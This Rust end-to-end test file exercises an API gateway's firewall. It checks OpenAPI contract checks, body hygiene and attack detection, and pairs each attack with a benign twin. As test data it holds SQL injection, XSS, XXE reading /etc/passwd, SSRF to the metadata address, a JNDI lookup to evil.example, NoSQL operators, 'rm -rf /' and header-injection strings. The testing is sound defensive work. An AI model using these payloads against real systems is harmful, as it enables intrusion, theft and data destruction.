//! End to end: the API firewall through the real binary — the OpenAPI contract (positive
//! model) and body hygiene on every route.

mod common;

use common::*;
use portcullis_testkit::RecordingUpstream;
use serde_json::json;

const SPEC: &str = r##"
openapi: 3.0.3
info: { title: shop, version: "1" }
servers: [ { url: https://api.example.com/shop } ]
paths:
  /orders:
    post:
      operationId: createOrder
      requestBody:
        required: true
        content:
          application/json:
            schema: { $ref: "#/components/schemas/Order" }
      responses: { "201": { description: created } }
    get:
      operationId: listOrders
      parameters:
        - { name: limit, in: query, schema: { type: integer, minimum: 1, maximum: 100 } }
        - { name: status, in: query, schema: { type: string, enum: [open, shipped] } }
      responses: { "200": { description: ok } }
  /orders/{id}:
    get:
      operationId: getOrder
      parameters:
        - { name: id, in: path, required: true, schema: { type: string, format: uuid } }
      responses: { "200": { description: ok } }
components:
  schemas:
    Order:
      type: object
      required: [item, quantity, email]
      properties:
        item: { type: string, maxLength: 40 }
        quantity: { type: integer, minimum: 1 }
        email: { type: string, format: email }
"##;

#[tokio::test]
async fn openapi_contract_and_body_hygiene() {
    let up = RecordingUpstream::start().await;
    let dir = tempfile::tempdir().unwrap();
    let spec = dir.path().join("shop.yaml");
    std::fs::write(&spec, SPEC).unwrap();
    let routes = format!(
        "upstreams:\n  - id: app\n    targets: [\"{}\"]\nroutes:\n  - id: shop\n    path: /shop/\n    methods: [GET, POST, DELETE]\n    upstream: app\n    public: true\n    openapi: {{ file: {} }}\n  - id: free\n    path: /free/\n    methods: [POST]\n    upstream: app\n    public: true\n",
        up.url(),
        spec.display()
    );
    let gw = start(&config(&routes));
    let c = client(&gw);
    let u = |p: &str| https_url(&gw, p);
    let good = json!({"item": "tea", "quantity": 2, "email": "a@example.com"});
    // Valid requests pass.
    let r = c.post(u("/shop/orders")).json(&good).send().await.unwrap();
    assert_eq!(r.status(), 200);
    let r = c
        .get(u("/shop/orders?limit=10&status=open"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let r = c
        .get(u("/shop/orders/6f1c2a1e-8d2b-4c8e-9a4f-0b1c2d3e4f50"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    assert_eq!(up.requests().len(), 3);

    // Each contract violation: 400 with pointer and rule, never the submitted value.
    for (req, pointer, rule, secret) in [
        (
            c.post(u("/shop/orders"))
                .json(&json!({"item": "tea", "quantity": 0, "email": "a@example.com"})),
            "/body/quantity",
            "minimum",
            "\"quantity\":0",
        ),
        (
            c.post(u("/shop/orders"))
                .json(&json!({"item": "tea", "quantity": 1, "email": "not-an-email-XYZ"})),
            "/body/email",
            "format",
            "not-an-email-XYZ",
        ),
        (
            c.post(u("/shop/orders")).json(
                &json!({"item": "tea", "quantity": 1, "email": "a@example.com", "is_admin": true}),
            ),
            "/body",
            "additionalProperties",
            "is_admin\":true",
        ),
        (
            c.get(u("/shop/orders?limit=1000")),
            "/query/limit",
            "maximum",
            "1000",
        ),
        (
            c.get(u("/shop/orders?status=DROP-TABLE")),
            "/query/status",
            "enum",
            "DROP-TABLE",
        ),
        (
            c.get(u("/shop/orders?debug=1")),
            "/query/debug",
            "unknown",
            "debug=1",
        ),
        (
            c.get(u("/shop/orders/not-a-uuid-QQQ")),
            "/path/id",
            "format",
            "not-a-uuid-QQQ",
        ),
    ] {
        let r = req.send().await.unwrap();
        let body = assert_problem(r, 400, "bad-request").await;
        let text = body.to_string();
        let v = body["violations"]
            .as_array()
            .unwrap_or_else(|| panic!("{text}"));
        assert!(
            v.iter()
                .any(|x| x["pointer"].as_str().unwrap_or("").starts_with(pointer)
                    && x["rule"] == rule),
            "{pointer} {rule}: {text}"
        );
        assert!(!text.contains(secret), "value echoed: {text}");
    }
    // Wrong content type: 415. Undeclared method: 405 with Allow. Unknown path: 404.
    let r = c
        .post(u("/shop/orders"))
        .header("content-type", "text/plain")
        .body("item=tea")
        .send()
        .await
        .unwrap();
    assert_problem(r, 415, "unsupported-media-type").await;
    let r = c.delete(u("/shop/orders")).send().await.unwrap();
    assert_eq!(r.status(), 405);
    assert!(r.headers()["allow"].to_str().unwrap().contains("POST"));
    let r = c.get(u("/shop/admin")).send().await.unwrap();
    assert_problem(r, 404, "not-found").await;
    assert_eq!(up.requests().len(), 3, "nothing invalid was forwarded");

    // Body hygiene applies on a route without a spec.
    for (ct, body) in [
        ("application/json", r#"{"a":1,"a":2}"#.to_string()),
        ("application/json", format!("{}{}", "[".repeat(100), "]".repeat(100))),
        (
            "application/xml",
            r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#.to_string(),
        ),
    ] {
        let r = c
            .post(u("/free/x"))
            .header("content-type", ct)
            .body(body)
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 400, "{ct}");
    }
    let r = c
        .post(u("/free/x"))
        .header("content-type", "application/xml")
        .body("<order><item>tea</item></order>")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200, "benign XML passes");
    assert_eq!(up.requests().len(), 4);
}

#[tokio::test]
async fn detectors_block_attacks_in_every_placement_and_pass_their_benign_twins() {
    let up = RecordingUpstream::start().await;
    let routes = format!(
        "upstreams:\n  - id: app\n    targets: [\"{}\"]\nroutes:\n  - id: api\n    path: /api/\n    methods: [GET, POST]\n    upstream: app\n    public: true\n  - id: tuning\n    path: /tuning/\n    methods: [GET]\n    upstream: app\n    public: true\n    firewall: {{ mode: detect_only }}\n  - id: notes\n    path: /notes/\n    methods: [POST]\n    upstream: app\n    public: true\n    firewall:\n      exclusions:\n        - {{ locations: [\"body:/code\"] }}\n",
        up.url()
    );
    let gw = start(&config(&routes));
    let c = client(&gw);
    let u = |p: &str| https_url(&gw, p);
    // (attack, benign twin) per class, sent as a query value.
    let pairs = [
        ("' OR 1=1 --", "O'Brien"),
        (
            "1 UNION SELECT password FROM users",
            "select the best option from the menu",
        ),
        (
            "<script>alert(document.cookie)</script>",
            "I <3 my script-writing class",
        ),
        ("; cat /etc/passwd", "cat food; dog food"),
        ("../../../../etc/passwd", "docs/guide/intro.md"),
        ("*)(uid=*))(|(uid=*", "Smith, John (sales)"),
        ("{{7*7}}${7*7}", "price: 7*7 = 49"),
        (
            "http://169.254.169.254/latest/meta-data/",
            "https://www.example.com/about",
        ),
        ("${jndi:ldap://evil.example/a}", "${HOME} is an env var"),
        // Base64 of `' UNION SELECT password FROM users--`, and of `hello world`.
        (
            "JyBVTklPTiBTRUxFQ1QgcGFzc3dvcmQgRlJPTSB1c2Vycy0t",
            "aGVsbG8gd29ybGQ",
        ),
    ];
    let mut sent = 0;
    for (attack, benign) in pairs {
        let r = c
            .get(u("/api/search"))
            .query(&[("q", attack)])
            .send()
            .await
            .unwrap();
        let body = assert_problem(r, 403, "forbidden").await;
        let text = body.to_string();
        assert!(
            body["findings"].as_array().is_some_and(|f| !f.is_empty()),
            "{attack}: {text}"
        );
        assert!(text.contains("query:q"), "{text}");
        assert!(!text.contains(attack), "payload echoed: {text}");
        let r = c
            .get(u("/api/search"))
            .query(&[("q", benign)])
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 200, "benign twin refused: {benign}");
        sent += 1;
    }
    assert_eq!(up.requests().len(), sent);
    // Other placements: header, cookie, JSON key and value, form field, XML text, NoSQL operator.
    let attacks: Vec<reqwest::RequestBuilder> = vec![
        c.get(u("/api/x")).header("x-search", "1' or '1'='1"),
        c.get(u("/api/x"))
            .header("cookie", "session=abc; pref=<svg/onload=alert(1)>"),
        c.post(u("/api/x"))
            .json(&json!({"user": {"name": "x' UNION SELECT 1,2--"}})),
        c.post(u("/api/x"))
            .json(&json!({"user": {"$where": "sleep(1000)"}})),
        c.post(u("/api/x"))
            .json(&json!({"password": {"$ne": null}})),
        c.get(u("/api/x?password[$ne]=1")),
        c.post(u("/api/x"))
            .form(&[("comment", "<iframe src=javascript:alert(1)>")]),
        c.post(u("/api/x"))
            .header("content-type", "application/xml")
            .body("<a><b>; rm -rf / ;</b></a>"),
        c.get(u("/api/x"))
            .query(&[("url", "http://2130706433/admin")]),
        c.get(u("/api/x"))
            .query(&[("next", "/%0d%0aSet-Cookie:%20admin=1")]),
    ];
    for req in attacks {
        let r = req.send().await.unwrap();
        assert_eq!(r.status(), 403, "{:?}", r.url());
    }
    let benign: Vec<reqwest::RequestBuilder> = vec![
        c.get(u("/api/x")).header("x-search", "rock 'n' roll"),
        c.get(u("/api/x"))
            .header("cookie", "session=abc; pref=dark"),
        c.post(u("/api/x"))
            .json(&json!({"user": {"name": "Zoë D'Angelo", "bio": "Loves SQL and select wines"}})),
        c.post(u("/api/x"))
            .json(&json!({"filter": {"price": {"max": 20}}, "note": "5 > 3 and 2 < 4"})),
        c.post(u("/api/x"))
            .form(&[("comment", "Great product, 10/10 would buy again!")]),
        c.post(u("/api/x"))
            .header("content-type", "application/xml")
            .body("<a><b>tea &amp; biscuits</b></a>"),
        c.get(u("/api/x")).query(&[
            ("email", "first.last+tag@example.co.uk"),
            ("lang", "日本語"),
        ]),
    ];
    for req in benign {
        let r = req.send().await.unwrap();
        assert_eq!(r.status(), 200, "{:?}", r.url());
    }
    // Detect-only: the request passes and the log records what would have been refused.
    let r = c
        .get(u("/tuning/x"))
        .query(&[("q", "' OR 1=1 --")])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    assert!(
        gw.wait_access(|v| v.to_string().contains("would_deny"))
            .is_some()
    );
    // Exclusions: a code field may hold code; the rest of the body is still inspected.
    let r = c
        .post(u("/notes/1"))
        .json(&json!({"code": "SELECT * FROM t WHERE a = '1' OR 1=1", "title": "sql notes"}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let r = c
        .post(u("/notes/1"))
        .json(&json!({"code": "x", "title": "' OR 1=1 --"}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 403);
    // Evidence: the audit trail names the rule and location, never the whole payload.
    let line = gw
        .wait_access(|v| v.to_string().contains("firewall_blocked"))
        .expect("a firewall denial in the access log");
    assert!(
        line.to_string().contains("\"guard\":\"firewall\""),
        "{line}"
    );
    // The security event carries each match's rule, category, location and a redacted
    // excerpt: a long payload is never logged whole.
    let long = format!("' OR 1=1 -- {}", "padding-".repeat(20));
    let r = c
        .post(u("/notes/1"))
        .json(&json!({"code": "x", "title": long}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 403);
    assert!(gw.wait_line("firewall_match", std::time::Duration::from_secs(5)));
    let events: Vec<serde_json::Value> = gw
        .lines()
        .iter()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .filter(|v| v["event"] == "firewall_match")
        .collect();
    let blocked = events
        .iter()
        .find(|v| v["action"] == "blocked" && v["route"] == "notes")
        .unwrap_or_else(|| panic!("no blocked firewall_match event: {events:?}"));
    assert_eq!(blocked["target"], "portcullis::security");
    assert_eq!(blocked["level"], "WARN");
    let findings: serde_json::Value =
        serde_json::from_str(blocked["findings"].as_str().unwrap()).unwrap();
    let first = &findings[0];
    assert_eq!(first["location"], "body:/title", "{findings}");
    assert_eq!(first["category"], "sqli", "{findings}");
    assert!(
        first["rule_id"]
            .as_str()
            .is_some_and(|r| r.starts_with("sqli-"))
    );
    assert!(first["excerpt"].as_str().is_some_and(|e| !e.is_empty()));
    let log = gw.lines().join("\n");
    assert!(!log.contains(&long), "whole payload in the log");
    assert!(
        events
            .iter()
            .any(|v| v["action"] == "detected" && v["route"] == "tuning"),
        "{events:?}"
    );
    // Metrics count matches by rule, category and action.
    let metrics = reqwest::get(format!("http://{}/metrics", gw.addr("admin")))
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let counted = |route: &str, action: &str| {
        metrics.lines().any(|l| {
            l.starts_with("portcullis_firewall_matches_total{")
                && l.contains(&format!("route=\"{route}\""))
                && l.contains("category=\"sqli\"")
                && l.contains("rule=\"sqli-")
                && l.contains(&format!("action=\"{action}\""))
        })
    };
    assert!(counted("notes", "blocked"), "{metrics}");
    assert!(counted("tuning", "detected"), "{metrics}");
}

/// Request-head hygiene on a route without a spec: each evasion is refused with 400 naming
/// the rule and never reaches the upstream; its benign twin goes through.
#[tokio::test]
async fn request_head_hygiene_refuses_evasions_and_passes_their_twins() {
    let up = RecordingUpstream::start().await;
    let routes = format!(
        "upstreams:\n  - id: app\n    targets: [\"{}\"]\nroutes:\n  - id: app\n    path: /app/\n    methods: [GET, POST]\n    upstream: app\n    public: true\n  - id: legacy\n    path: /legacy/\n    methods: [POST]\n    upstream: app\n    public: true\n    body_limits: {{ allow_method_override: true }}\n",
        up.url()
    );
    let gw = start(&config(&routes));
    let c = client(&gw);
    let u = |p: &str| https_url(&gw, p);
    let form = "application/x-www-form-urlencoded";
    let multipart = |headers: &str, content: &str| {
        format!(
            "--XyZ\r\nContent-Disposition: form-data; name=\"f\"\r\n{headers}\r\n{content}\r\n--XyZ--\r\n"
        )
    };
    for (attack, twin, rule) in [
        (
            c.post(u("/app/a"))
                .header("content-type", format!("{form}; charset=ibm037")),
            c.post(u("/app/a"))
                .header("content-type", format!("{form}; charset=UTF-8")),
            "charset",
        ),
        (
            c.post(u("/app/a")).header("content-type", "text/xml; blah"),
            c.post(u("/app/a"))
                .header("content-type", "text/xml; charset=utf-8"),
            "contentType",
        ),
        (
            c.post(u("/app/a?_method=DELETE")),
            c.post(u("/app/a?payment_method=DELETE")),
            "methodOverride",
        ),
        (
            c.get(u("/app/a")).header("x-http-method-override", "PUT"),
            c.get(u("/app/a")).header("x-http-method-override", "GET"),
            "methodOverride",
        ),
        (
            c.post(u("/app/a"))
                .header("content-type", form)
                .body("_method=delete&id=7"),
            c.post(u("/app/a"))
                .header("content-type", form)
                .body("method=delete&id=7"),
            "methodOverride",
        ),
        (
            c.get(u("/app/a?file=report.pdf%00.php")),
            c.get(u("/app/a?file=report.pdf%2500.php")),
            "nul",
        ),
        (
            c.get(u("/app/a"))
                .header("range", "bytes=0-1,2-3,4-5,6-7,8-9,10-11"),
            c.get(u("/app/a")).header("range", "bytes=0-1023"),
            "range",
        ),
        (
            c.post(u("/app/a"))
                .header("content-type", "multipart/form-data; boundary=XyZ")
                .body(multipart(
                    "Content-Transfer-Encoding: base64\r\n",
                    "PHNjcmlwdD4=",
                )),
            c.post(u("/app/a"))
                .header("content-type", "multipart/form-data; boundary=XyZ")
                // (base64 of `<script>` would now be decoded and refused by the firewall;
                // the twin carries base64 of plain words.)
                .body(multipart(
                    "Content-Type: text/plain\r\n",
                    "aGVsbG8gd29ybGQ=",
                )),
            "partHeader",
        ),
        (
            c.post(u("/app/a"))
                .header("content-type", "multipart/form-data; boundary=XyZ")
                .body(multipart(
                    "Content-Type: text/plain; charset=utf-7\r\n",
                    "hi",
                )),
            c.post(u("/app/a"))
                .header("content-type", "multipart/form-data; boundary=XyZ")
                .body(multipart(
                    "Content-Type: text/plain; charset=utf-8\r\n",
                    "hi",
                )),
            "charset",
        ),
    ] {
        let before = up.requests().len();
        let body = assert_problem(attack.send().await.unwrap(), 400, "bad-request").await;
        assert!(
            body["violations"]
                .as_array()
                .is_some_and(|v| v.iter().any(|x| x["rule"] == rule)),
            "{rule}: {body}"
        );
        assert_eq!(up.requests().len(), before, "{rule}: attack forwarded");
        let r = twin.send().await.unwrap();
        assert_eq!(r.status(), 200, "{rule}: twin refused");
        assert_eq!(up.requests().len(), before + 1);
    }
    // A bare-LF multipart body is accepted (and inspected); a CRLF delimiter slipped into
    // it is refused.
    let lf = "--XyZ\nContent-Disposition: form-data; name=\"f\"\n\nhello\n--XyZ--\n";
    let r = c
        .post(u("/app/a"))
        .header("content-type", "multipart/form-data; boundary=XyZ")
        .body(lf)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let mixed = "--XyZ\nContent-Disposition: form-data; name=\"f\"\n\nhello\r\n--XyZ--\n";
    let r = c
        .post(u("/app/a"))
        .header("content-type", "multipart/form-data; boundary=XyZ")
        .body(mixed)
        .send()
        .await
        .unwrap();
    assert_problem(r, 400, "bad-request").await;
    // A route that allows overrides lets them through.
    let r = c.post(u("/legacy/a?_method=DELETE")).send().await.unwrap();
    assert_eq!(r.status(), 200);
}
